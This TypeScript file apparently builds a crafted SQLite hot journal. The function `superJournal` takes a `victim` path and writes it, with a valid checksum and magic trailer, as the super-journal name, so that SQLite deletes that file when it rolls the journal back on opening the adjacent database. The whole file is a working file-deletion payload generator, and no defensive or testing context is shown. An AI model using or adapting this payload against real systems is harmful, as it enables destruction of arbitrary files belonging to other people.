/** How every journal of SQLite begins, and how the name of a super-journal ends. */
const magic = Buffer.from("d9d505f920a163d7", "hex");
const sectorSize = 512;
/** Of the page that no database uses, from which on locks are held. */
const lockedByte = 0x40000000;

/**
 * A journal that SQLite rolls back when it opens the database beside it. It names another file as the list of journals of one
 * transaction over several databases, which SQLite deletes once none of those is left.
 */
export function superJournal(victim: string, { pageSize = 4096, pageCount = 1 } = {}): Buffer {
  const header = Buffer.alloc(sectorSize);
  magic.copy(header);
  // No page is rolled back; then a random start of the checksums, pages, bytes of a sector and of a page.
  for (const [index, value] of [0, 1, pageCount, sectorSize, pageSize].entries())
    header.writeUInt32BE(value, 8 + 4 * index);
  const name = Buffer.from(victim);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32BE(name.length, 0);
  trailer.writeUInt32BE(sumOf(name), 4);
  const page = Buffer.alloc(4);
  page.writeUInt32BE(lockedByte / pageSize + 1);
  return Buffer.concat([header, page, name, trailer, magic]);
}

/** Of signed bytes, as SQLite adds them up. */
function sumOf(bytes: Buffer): number {
  let sum = 0;
  for (const byte of new Int8Array(bytes)) sum = (sum + byte) | 0;
  return sum >>> 0;
}
